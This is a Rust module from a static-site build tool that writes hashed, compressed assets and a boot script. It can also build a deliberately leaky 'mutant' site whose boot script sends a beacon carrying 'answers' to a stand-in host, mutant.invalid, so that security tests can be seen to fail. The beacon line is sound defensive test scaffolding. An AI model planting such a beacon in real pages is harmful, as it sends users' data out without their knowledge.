//! The site: every file a static host needs, and nothing else.

use std::fs;
use std::path::{Path, PathBuf};

use crate::args::DistOptions;
use crate::compress::{Encoded, encode};
use crate::fault::Fault;
use crate::headers::{self, LOCK, POLICY};
use crate::languages::Language;
use crate::project::{Project, files, write};
use crate::single::{self, Parts};
use crate::size::{self, Size};
use crate::template::fill;
use crate::wasm::Built;
use crate::{budget, hash, hosts, languages, manifest, wasm};

/// Where the styles are; they are put together in the order of their names.
const STYLES: &str = "crates/ready42-ui/styles";

/// Which site.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Kind {
    /// The one that is published.
    Site,
    /// One that leaks, to see the tests fail.
    Mutant,
}

impl Kind {
    /// The folder everything of this kind is written to.
    pub(crate) fn folder(self, project: &Project) -> PathBuf {
        project.path(match self {
            Self::Site => "target/dist",
            Self::Mutant => "target/dist-mutant",
        })
    }

    /// The policy its pages are sent with.
    pub(crate) fn policy(self) -> String {
        match self {
            Self::Site => POLICY.to_owned(),
            Self::Mutant => headers::relaxed(),
        }
    }
}

/// Builds, and prints the sizes and the budgets.
///
/// # Errors
///
/// Whatever a step of the build has to say.
pub(crate) fn run(project: &Project, options: DistOptions) -> Result<(), Fault> {
    let (built, sizes) = build(project, options.kind)?;
    if options.accept_imports {
        manifest::accept(project, &built.wasm, &built.glue)?;
    }
    print!("{}\n{}", size::table(&sizes), budget::table(&budget::spent(project, &sizes)?));
    Ok(())
}

/// Builds a site in a fresh folder, then puts it in the place of the old one.
///
/// # Errors
///
/// Whatever a step has to say; the old site is then still there.
pub(crate) fn build(project: &Project, kind: Kind) -> Result<(Built, Vec<Size>), Fault> {
    let built = wasm::build(project)?;
    let folder = kind.folder(project);
    let fresh = folder.with_extension("new");
    remove(&fresh)?;
    let sizes = lay_out(project, kind, &built, &fresh.join("site"))?;
    hash::write_list(&fresh)?;
    remove(&folder)?;
    fs::rename(&fresh, &folder).map_err(Fault::file(&folder))?;
    Ok((built, sizes))
}

/// Removes a folder, if it is there.
fn remove(folder: &Path) -> Result<(), Fault> {
    if folder.exists() { fs::remove_dir_all(folder).map_err(Fault::file(folder)) } else { Ok(()) }
}

/// Writes every file of the site, each named after its content except the page itself, and beside
/// it the page that is one file.
fn lay_out(project: &Project, kind: Kind, built: &Built, to: &Path) -> Result<Vec<Size>, Fault> {
    let mut sizes = Vec::new();
    let mut add = |kind: &'static str, name: String, bytes: &[u8]| -> Result<String, Fault> {
        sizes.push(publish(to, kind, &name, bytes)?);
        Ok(name)
    };
    let mut hashed = |kind, stem: &str, extension: &str, bytes: &[u8]| {
        add(kind, hash::named(stem, extension, bytes), bytes)
    };
    let wasm = hashed("wasm", "ready42", "wasm", &built.wasm)?;
    let glue = hashed("glue", "ready42", "js", built.glue.as_bytes())?;
    let icon = data_uri(project.read("web/icon.svg")?.trim());
    let styles = styles(project)?;
    let style = hashed("css", "style", "css", styles.as_bytes())?;
    let (mut languages, details) = languages::build(project)?;
    if kind == Kind::Site {
        let parts = Parts { style: &styles, icon: &icon, details: &details, languages: &languages };
        write(&to.with_file_name(single::NAME), single::page(project, built, parts)?)?;
    }
    let details = hashed("details", "details", "txt", &details)?;
    for language in &mut languages {
        if let Some(pack) = &language.pack {
            language.name = Some(hashed("language", &language.code, "txt", pack)?);
        }
    }
    let boot = boot(project, kind, [&glue, &wasm, &details], &languages)?;
    let boot = hashed("boot", "boot", "js", boot.as_bytes())?;
    let page = fill(
        &project.path("web/index.html"),
        &project.read("web/index.html")?,
        &[
            ("@policy@", 1, &headers::meta(&kind.policy())),
            ("\"ready42.wasm\"", 1, &format!("\"{wasm}\"")),
            ("\"ready42.js\"", 1, &format!("\"{glue}\"")),
            ("\"details.txt\"", 1, &format!("\"{details}\"")),
            ("\"style.css\"", 1, &format!("\"{style}\"")),
            ("\"icon.svg\"", 1, &format!("\"{icon}\"")),
            ("\"boot.js\"", 1, &format!("\"{boot}\"")),
            ("@scripts@", 1, &languages::scripts(&languages)),
        ],
    )?;
    add("html", "index.html".to_owned(), page.as_bytes())?;
    let mut kept = vec![wasm, glue, details, style, boot];
    kept.extend(languages.into_iter().filter_map(|language| language.name));
    kept.sort();
    for (name, text) in hosts::all(&kept) {
        write(&to.join(name), text)?;
    }
    Ok(sizes)
}

/// Writes a file and its two encodings.
fn publish(to: &Path, kind: &'static str, name: &str, bytes: &[u8]) -> Result<Size, Fault> {
    let path = to.join(name);
    let Encoded { br, gz } = encode(bytes).map_err(Fault::file(&path))?;
    write(&path, bytes)?;
    write(&to.join(format!("{name}.br")), &br)?;
    write(&to.join(format!("{name}.gz")), &gz)?;
    Ok(Size { kind, name: name.to_owned(), raw: bytes.len(), gzip: gz.len(), brotli: br.len() })
}

/// The styles in one text.
fn styles(project: &Project) -> Result<String, Fault> {
    let folder = project.path(STYLES);
    let names = if folder.is_dir() { files(&folder)? } else { Vec::new() };
    let names: Vec<&String> = names.iter().filter(|name| is_style(name)).collect();
    if names.is_empty() {
        return Err(Fault::content(&folder, "expected at least one .css file, found none"));
    }
    names.iter().map(|name| project.read(&format!("{STYLES}/{name}"))).collect()
}

/// Whether a file is a style, and not in a folder further down.
fn is_style(name: &str) -> bool {
    name.rsplit_once('.').is_some_and(|(stem, ending)| ending == "css" && !stem.contains('/'))
}

/// An image as an address that holds it.
///
/// Browsers ask for the icon last, often after the page has locked itself, and a file would then
/// be refused: one error on each visit, and no icon. What is in the page needs no asking.
fn data_uri(svg: &str) -> String {
    let encoded = svg.bytes().map(|byte| match byte {
        b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'/' | b':' | b'=' => {
            char::from(byte).to_string()
        }
        other => format!("%{other:02x}"),
    });
    format!("data:image/svg+xml,{}", encoded.collect::<String>())
}

/// The boot script with its names filled in; the mutant's leaks instead of locking itself.
fn boot(
    project: &Project,
    kind: Kind,
    [glue, wasm, details]: [&str; 3],
    languages: &[Language],
) -> Result<String, Fault> {
    const LEAK: &str = "setTimeout(() => {
    fetch(new URL(\"mutant-fetch\", document.baseURI)).catch(() => {});
    navigator.sendBeacon(\"http://mutant.invalid/beacon\", \"answers\");
  }, 2000);";
    let path = project.path("web/boot.js");
    let text = project.read("web/boot.js")?;
    let call = match kind {
        Kind::Site => "lock();",
        Kind::Mutant => LEAK,
    };
    fill(
        &path,
        &text,
        &[
            ("\"./ready42.js\"", 1, &format!("\"./{glue}\"")),
            ("\"./ready42.wasm\"", 1, &format!("\"./{wasm}\"")),
            ("\"./details.txt\"", 1, &format!("\"./{details}\"")),
            ("@lock@", 1, LOCK),
            ("\"@languages@\"", 1, &languages::table(languages)),
            ("  lock();\n", 1, &format!("  {call}\n")),
        ],
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_icon_in_an_address_ends_neither_address_nor_attribute() {
        assert_eq!(data_uri("<a b=\"#1\"/>"), "data:image/svg+xml,%3ca%20b=%22%231%22/%3e");
    }

    #[test]
    fn a_style_is_a_css_file_of_the_folder_itself() {
        assert!(is_style("00-tokens.css"));
        assert!(!is_style("notes.md") && !is_style("old/00-tokens.css") && !is_style("css"));
    }
}
